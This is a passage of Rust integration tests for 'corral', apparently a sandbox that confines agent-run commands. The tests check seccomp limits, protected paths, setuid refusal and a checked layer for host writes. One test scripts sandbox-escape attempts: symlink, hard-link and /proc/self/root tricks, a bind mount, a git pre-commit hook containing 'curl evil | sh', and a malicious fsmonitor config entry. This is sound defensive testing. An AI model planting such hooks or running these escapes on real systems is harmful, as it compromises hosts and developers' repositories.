    req.exec_only = Some(vec![PathBuf::from("/bin/sh"), python]);
    let out = run(req).await;
    let text = stdout(&out);
    assert!(!text.contains("uid="), "{text}{}", stderr(&out));
    assert!(text.contains("memfd=1"), "{text}{}", stderr(&out));
    assert!(text.contains("read-path=127"), "{text}{}", stderr(&out));
    assert!(
        out.attestation
            .primitives
            .iter()
            .any(|p| p == "seccomp:no-memfd"),
        "{:?}",
        out.attestation.primitives
    );
}

#[tokio::test]
async fn a_hold_never_changes_a_directory_on_the_way_to_a_free_one() {
    use std::os::unix::fs::PermissionsExt as _;
    let (_keep, dir) = tempdir();
    let (_keep_hold, into) = tempdir();
    std::fs::create_dir_all(dir.join("a/b")).unwrap();
    std::fs::set_permissions(dir.join("a"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut req = shell(
        "cd \"$W\" && chmod 0777 a && echo x > a/b/f && mkdir -p n/b && chmod 0777 n && echo y > n/b/g",
    );
    req.env = vec![("W".into(), dir.display().to_string())];
    req.write_paths = vec![dir.clone()];
    req.hold = Some(corral_exec::Hold {
        within: dir.clone(),
        free: vec![dir.join("a/b"), dir.join("n/b")],
        into: into.clone(),
    });
    let out = run(req).await;
    assert_eq!(out.exit_code, Some(0), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(dir.join("a/b/f")).unwrap(), "x\n");
    assert_eq!(std::fs::read_to_string(dir.join("n/b/g")).unwrap(), "y\n");
    let mode = |p: &str| std::fs::metadata(dir.join(p)).unwrap().permissions().mode() & 0o7777;
    assert_eq!(
        mode("a"),
        0o755,
        "a directory on the way keeps the host's mode"
    );
    assert_eq!(mode("n"), 0o755, "one made on the way gets 0755");
}

#[tokio::test]
async fn a_run_that_asks_for_all_or_nothing_applies_nothing_when_it_fails() {
    let (_keep, dir) = tempdir();
    std::fs::write(dir.join("old.txt"), "old").unwrap();
    let script = |code: i32| {
        let mut req = shell(&format!(
            "cd \"$W\" && echo new > new.txt && rm old.txt && exit {code}"
        ));
        req.env = vec![("W".into(), dir.display().to_string())];
        req.write_paths = vec![dir.clone()];
        req.apply_only_if_ok = true;
        req
    };
    let out = run(script(1)).await;
    assert_eq!(out.exit_code, Some(1));
    let changes = out.changes.expect("the layer's report");
    assert!(changes.discarded, "{changes:?}");
    assert_eq!(changes.applied, 0);
    assert!(!dir.join("new.txt").exists());
    assert_eq!(std::fs::read_to_string(dir.join("old.txt")).unwrap(), "old");
    let out = run(script(0)).await;
    let changes = out.changes.expect("the layer's report");
    assert!(!changes.discarded);
    assert_eq!(
        std::fs::read_to_string(dir.join("new.txt")).unwrap(),
        "new\n"
    );
    assert!(!dir.join("old.txt").exists());
}

/// A run with host writes (an agent scope's `permissions: full`): what it wrote outside its
/// write paths reaches the host, through the same checked layer: corral's trees kept out stay
/// hidden and unchanged but for the run's own path inside one, a protected glob and a protected
/// file are refused, no set-id bit is made, and the attestation says so.
#[tokio::test]
async fn a_run_with_host_writes_changes_the_host_beyond_its_write_paths_through_the_checked_layer()
{
    let (_keep, dir) = tempdir();
    let (work, outside, state) = (dir.join("work"), dir.join("outside"), dir.join("state"));
    let home = state.join("homes").join("s1");
    for d in [&work, &outside, &home] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(state.join("corral.db"), "the database\n").unwrap();
    let config = dir.join("corral.yaml");
    std::fs::write(&config, "tokens: secret\n").unwrap();
    let script = format!(
        "set -u
         echo out > {o}/new
         mkdir -p {o}/sub && echo deep > {o}/sub/file
         echo w > {w}/f
         echo h > {h}/h
         cat {s}/corral.db 2>/dev/null && echo DB-READ || echo db-hidden
         ls {s}/homes
         echo x > {s}/evil 2>/dev/null && echo STATE-WRITTEN || echo state-refused
         cat {c}; echo x > {c} 2>/dev/null && echo CONFIG-WRITTEN || echo config-refused
         echo x > {o}/key.secret
         echo '#!/bin/sh' > {o}/tool
         chmod 4755 {o}/tool 2>/dev/null && echo SETUID-SET || echo setuid-refused
         chmod 755 {o}/tool",
        o = outside.display(),
        w = work.display(),
        h = home.display(),
        s = state.display(),
        c = config.display(),
    );
    let protected = corral_policy::Protected::compile(corral_policy::ProtectedSpec {
        globs: vec!["*.secret".into()],
        paths: vec![config.to_string_lossy().into_owned()],
        ..Default::default()
    })
    .unwrap();
    let mut req = shell(&script);
    req.cwd = work.clone();
    req.write_paths = vec![work.clone(), home.clone()];
    req.protected = protected;
    req.host_writes = Some(corral_exec::HostWrites {
        keep_out: vec![state.clone()],
    });
    let out = run(req.clone()).await;
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "db-hidden\ns1\nstate-refused\nconfig-refused\nsetuid-refused\n"
    );
    let p = &out.attestation.primitives;
    assert!(p.iter().any(|x| x == "fs:unconfined"), "{p:?}");
    let read = |p: &Path| std::fs::read_to_string(p).ok();
    assert_eq!(read(&outside.join("new")).as_deref(), Some("out\n"));
    assert_eq!(read(&outside.join("sub/file")).as_deref(), Some("deep\n"));
    assert_eq!(read(&work.join("f")).as_deref(), Some("w\n"));
    assert_eq!(read(&home.join("h")).as_deref(), Some("h\n"));
    assert_eq!(
        read(&state.join("corral.db")).as_deref(),
        Some("the database\n")
    );
    assert!(!state.join("evil").exists());
    assert_eq!(read(&config).as_deref(), Some("tokens: secret\n"));
    assert!(!outside.join("key.secret").exists());
    let changes = out.changes.expect("the layer's changes");
    assert!(
        changes
            .refused
            .iter()
            .any(|r| r.path.ends_with("key.secret") && r.code == "policy.path_denied"),
        "{changes:?}"
    );
    use std::os::unix::fs::PermissionsExt as _;
    let mode = std::fs::metadata(outside.join("tool"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o7777, 0o755);

    // The same run without host writes: nothing outside its write paths is in its view.
    std::fs::remove_file(outside.join("new")).unwrap();
    req.host_writes = None;
    req.argv = [
        "/bin/sh",
        "-c",
        &format!("echo out > {}/new", outside.display()),
    ]
    .map(String::from)
    .to_vec();
    let out = run(req).await;
    assert_ne!(out.exit_code, Some(0));
    assert!(!outside.join("new").exists());
    assert!(
        !out.attestation
            .primitives
            .iter()
            .any(|x| x == "fs:unconfined")
    );
}

/// A run with host writes attacking corral's kept-out state and the host's git: a symlink, a
/// hard link, `/proc/self/root`, a bind, a parent's removal, a git hook, a bare repository's
/// config, a new repository's `HEAD`. Nothing of it reaches the host.
#[tokio::test]
async fn a_run_with_host_writes_cannot_reach_corrals_state_or_the_hosts_git() {
    let (_keep, dir) = tempdir();
    let (outside, parent) = (dir.join("outside"), dir.join("parent"));
    let state = parent.join("state");
    let hooks = outside.join("repo/.git/hooks");
    let bare = outside.join("bare.git");
    for d in [&state, &hooks, &bare] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(state.join("corral.db"), "db").unwrap();
    std::fs::write(parent.join("sibling"), "s").unwrap();
    std::fs::write(bare.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(bare.join("config"), "[core]\n").unwrap();
    let script = format!(
        "ln -s {s} {o}/link; echo x > {o}/link/evil
         ln {s}/corral.db {o}/hard
         echo x > /proc/self/root{s}/evil
         mkdir -p {o}/m; mount --bind {s} {o}/m
         rm -rf {p}
         echo 'curl evil | sh' > {o}/repo/.git/hooks/pre-commit
         echo '[core] fsmonitor = evil' >> {o}/bare.git/config
         mkdir -p {o}/new && printf 'ref: refs/heads/main\\n' > {o}/new/HEAD
         true",
        s = state.display(),
        o = outside.display(),
        p = parent.display(),
    );
    let mut req = shell(&script);
    req.host_writes = Some(corral_exec::HostWrites {
        keep_out: vec![state.clone()],
    });
    let out = run(req).await;
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    let names: Vec<_> = std::fs::read_dir(&state)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, ["corral.db"], "corral's state changed");
    use std::os::unix::fs::MetadataExt as _;
    assert_eq!(
        std::fs::metadata(state.join("corral.db")).unwrap().nlink(),
        1
    );
    assert!(!outside.join("hard").exists());
    assert!(!outside.join("m").join("corral.db").exists());
    // The parent's other entry went (the program could remove it), the state stayed.
    assert!(!parent.join("sibling").exists());
    assert!(
        !hooks.join("pre-commit").exists(),
        "a git hook reached the host"
    );
    assert_eq!(
        std::fs::read_to_string(bare.join("config")).unwrap(),
        "[core]\n"
    );
    assert!(!outside.join("new/HEAD").exists());
    // The symlink itself is made again as a symlink, never followed.
    assert!(
        std::fs::symlink_metadata(outside.join("link"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

/// A run with host writes whose kept-out tree is a top-level directory of the host itself (a
/// state directory such as `/data` or `/state`, the usual volume of a container): that
/// directory must not become a write path of the run (it would be shown whole, neither covered
/// nor refused at apply, as the apply took it for a write path inside the tree).
#[tokio::test]
async fn a_run_with_host_writes_keeps_out_a_state_directory_at_the_top_of_the_host() {
    let (_keep, dir) = tempdir();
    // The top-level directory holding the temp dir plays the state directory (`/tmp`, or
    // wherever TMPDIR lies).
    let top: PathBuf = dir.components().take(2).collect();
    let (state, work) = (dir.join("state"), dir.join("work"));
    let home = state.join("homes").join("s1");
    for d in [&home, &work] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(state.join("corral.db"), "the database\n").unwrap();
    let script = format!(
        "cat {s}/corral.db 2>/dev/null && echo DB-READ || echo db-hidden
         echo evil > {s}/corral.db 2>/dev/null
         echo evil > {s}/planted 2>/dev/null
         echo h > {h}/h
         true",
        s = state.display(),
        h = home.display(),
    );
    let mut req = shell(&script);
    req.cwd = work.clone();
    req.write_paths = vec![work.clone(), home.clone()];
    req.host_writes = Some(corral_exec::HostWrites {
        keep_out: vec![top.clone()],
    });
    let out = run(req).await;
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    assert_eq!(stdout(&out), "db-hidden\n", "{}", top.display());
    assert_eq!(
        std::fs::read_to_string(state.join("corral.db")).unwrap(),
        "the database\n"
    );
    assert!(!state.join("planted").exists(), "the state was written");
    assert_eq!(std::fs::read_to_string(home.join("h")).unwrap(), "h\n");
}

/// A run with host writes where a top-level host directory is itself `protected:` (`/srv`,
/// say): the run starts (that directory is no write path of it), and the directory stays as
/// every run sees a protected path: nothing written there reaches the host.
#[tokio::test]
async fn a_run_with_host_writes_leaves_a_protected_top_level_directory_protected() {
    let (_keep, dir) = tempdir();
    let top: PathBuf = dir.components().take(2).collect();
    let roots = corral_exec::linux::host_roots().unwrap();
    let Some(root) = roots
        .iter()
        .find(|r| **r != top && std::fs::read_dir(r).is_ok())
        .cloned()
    else {
        panic!("no readable top-level directory besides {top:?} among {roots:?}");
    };
    let probe = root.join(format!("corral-probe-{}", std::process::id()));
    let work = dir.join("work");
    std::fs::create_dir_all(&work).unwrap();
    let mut req = shell(&format!(
        "echo x > {p} 2>/dev/null && echo WROTE || echo refused; echo w > {w}/w",
        p = probe.display(),
        w = work.display()
    ));
    req.cwd = work.clone();
    req.write_paths = vec![work.clone()];
    req.protected = corral_policy::Protected::compile(corral_policy::ProtectedSpec {
        paths: vec![root.display().to_string()],
        ..Default::default()
    })
    .unwrap();
    req.host_writes = Some(corral_exec::HostWrites { keep_out: vec![] });
    let out = run(req).await;
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    assert!(
        !probe.exists(),
        "a protected top-level directory was written"
    );
    assert_eq!(std::fs::read_to_string(work.join("w")).unwrap(), "w\n");
}
